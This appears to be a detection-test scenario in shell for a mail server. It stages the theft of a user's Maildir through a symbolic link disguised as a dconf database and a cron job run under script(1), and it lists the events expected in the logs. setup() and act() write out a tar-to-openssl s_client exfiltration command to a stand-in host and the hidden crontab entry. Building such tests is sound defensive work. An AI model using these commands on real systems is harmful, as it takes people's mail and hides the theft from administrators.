# A symbolic link gives the store an innocent name, and script(1) gives the program a terminal.
title="Maildir packed through a symbolic link under a made-up terminal"
what="A crontab line of intern runs script(1), whose pseudo-terminal makes what it starts look interactive: tar follows a symbolic link ~/.config/dconf/db to the Maildir and pipes into openssl s_client to 203.0.113.66 port 443."
host=mx1.example.org user=intern daemons="cron"

setup() {
  mkdir -p /home/intern/.config/dconf; ln -s ../../Maildir /home/intern/.config/dconf/db
  printf 'tar -chzf - -C $HOME/.config dconf | openssl s_client -quiet -connect drop.example.net:443\n' > /home/intern/.config/dconf.sh
  chown -R intern: /home/intern/.config
}
act() {
  small_talk 2
  for n in 1 2 3 4; do mail_in --from "school$n@example.com" --to intern@example.org --subject "Certificate $n" --source 203.0.113.25 --helo smtp.example.com; done
  wait_mail intern 4
  echo '* * * * * script -qc "sh $HOME/.config/dconf.sh" /dev/null >/dev/null 2>&1' | crontab -u intern -
  for _ in $(seq 1 150); do grep -q 'CMD.*dconf' /var/log/recorded && break; sleep 0.5; done
  sleep 4
  crontab -u intern -r
}
truth() {
  log_step job 'CRON.*CMD.*script -qc' 'cron starts script(1)'
  exec_step pack 'tar -chzf - -C' 'tar packs what the link leads to'
  net_step connect 'openssl 203.0.113.66:443' 'and it leaves by TLS'
}
